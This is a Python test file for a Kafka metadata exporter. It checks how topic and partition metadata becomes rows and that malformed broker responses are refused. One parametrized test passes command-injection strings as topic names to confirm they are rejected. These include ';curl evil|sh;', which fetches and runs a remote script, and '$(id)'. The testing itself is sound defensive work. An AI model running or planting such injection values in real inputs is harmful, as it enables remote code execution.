"""Metadata of a cluster as rows, and responses that are refused."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exporter.kafka.client.connections import Address
from exporter.kafka.errors import ErrorCode, MalformedResponseError
from exporter.kafka.messages.metadata import MetadataColumns, is_topic_name
from exporter.kafka.topology import PARTITIONS_OF_A_TOPIC_MAX, Topology, topology_of
from exporter.snapshot import NO_LEADER
from tests.kafka.messages.metadata import Leaders, answer, replicas_of


@given(
    st.dictionaries(
        st.text("abc._-", min_size=1, max_size=4).filter(is_topic_name),
        st.dictionaries(st.integers(0, 12), st.tuples(st.integers(-1, 5), st.integers(-1, 9)), min_size=1, max_size=6),
        max_size=6,
    )
)
def test_every_partition_is_found_where_its_row_says(topics: dict[str, Leaders]) -> None:
    """Rows are in the order of topic and partition, gaps appear without a leader, and nothing else is there."""
    topology = topology_of(answer(topics))
    rows = [
        (topology.topics[topic], int(partition))
        for topic, partition in zip(topology.topic, topology.partition, strict=True)
    ]

    assert rows == [(name, i) for name in sorted(topics) for i in range(max(topics[name]) + 1)]
    for row, (name, partition) in enumerate(rows):
        assert topology.row(name, partition) == row
        assert topology.leader_of(name, partition) == topics[name].get(partition, (NO_LEADER, -1))
        expected = replicas_of(partition) if partition in topics[name] else []
        assert topology.replicas.of(row) == tuple(expected)
        assert topology.in_sync.of(row) == tuple(expected[1:])
    for name, leaders in topics.items():
        assert len(topology.rows_of(name)) == max(leaders) + 1
        assert topology.row(name, max(leaders) + 1) is topology.row(name, -1) is None


def test_what_is_not_there_has_no_rows() -> None:
    """An unknown topic has no rows, no row and no leader."""
    topology = topology_of(answer({"t": {0: (1, 0)}}))

    assert list(topology.rows_of("u")) == []
    assert topology.row("u", 0) is None
    assert topology.leader_of("u", 0) == (NO_LEADER, -1)


def test_topics_with_an_error_and_without_partitions_are_distinguished() -> None:
    """The error of a topic that was requested by name is kept; a topic with partitions is shown whatever its error."""
    errors = {"hidden": int(ErrorCode.TOPIC_AUTHORIZATION_FAILED), "odd": int(ErrorCode.LEADER_NOT_AVAILABLE)}
    topology = topology_of(answer({"hidden": {}, "odd": {0: (NO_LEADER, -1)}}, errors=errors))

    assert topology.topic_errors == {"hidden": ErrorCode.TOPIC_AUTHORIZATION_FAILED}
    assert topology.topics == ("odd",)


def test_brokers_are_known_by_their_id() -> None:
    """Id -> address."""
    assert topology_of(answer({})).brokers == {0: Address("host-0", 9092), 1: Address("host-1", 9093)}


@pytest.mark.parametrize(
    "answered",
    [
        answer({}, brokers=0),
        replace(answer({"t": {}, "u": {}}), topics=("t", "t")),
        answer({"t": {-1: (1, 0)}}),
        answer({"t": {PARTITIONS_OF_A_TOPIC_MAX: (1, 0)}}),
        answer({"t": {2**31 - 1: (1, 0)}}),
    ],
    ids=["no broker", "a topic twice", "a negative partition index", "too many partitions", "a wild partition index"],
)
def test_a_response_that_no_broker_sends_is_refused(answered: MetadataColumns) -> None:
    """A response that would look like an empty cluster, or fill the memory with partitions, is malformed."""
    with pytest.raises(MalformedResponseError):
        topology_of(answered)


def test_an_empty_cluster_has_no_rows() -> None:
    """No topic at all is a response like any other."""
    topology = topology_of(answer({}))

    assert isinstance(topology, Topology)
    assert len(topology) == 0


@pytest.mark.parametrize(
    "name", [";curl evil|sh;", "a b", "a\nb", "\x1b[2J", "$(id)", "`id`", "..", "a" * 250, "--yes", "é"]
)
def test_a_topic_with_a_name_that_kafka_refuses_has_no_rows(name: str) -> None:
    """Its name is in no alert, page, plan or terminal; the others are as ever, and how many are refused is known."""
    found = topology_of(answer({"a": {0: (1, 0), 1: (2, 5)}, name: {0: (1, 0), 3: (2, 0)}, "z": {0: (2, 7)}}))

    is_legal = name == "--yes"  # dashes are legal everywhere in a name
    assert (name in found.topics) == is_legal
    assert found.refused_names == (0 if is_legal else 1)
    assert [found.leader_of("a", 0), found.leader_of("a", 1), found.leader_of("z", 0)] == [(1, 0), (2, 5), (2, 7)]
    assert found.replicas.of(found.rows_of("z")[0]) == topology_of(answer({"z": {0: (2, 7)}})).replicas.of(0)
    assert len(found) == (3 + 4 if is_legal else 3)
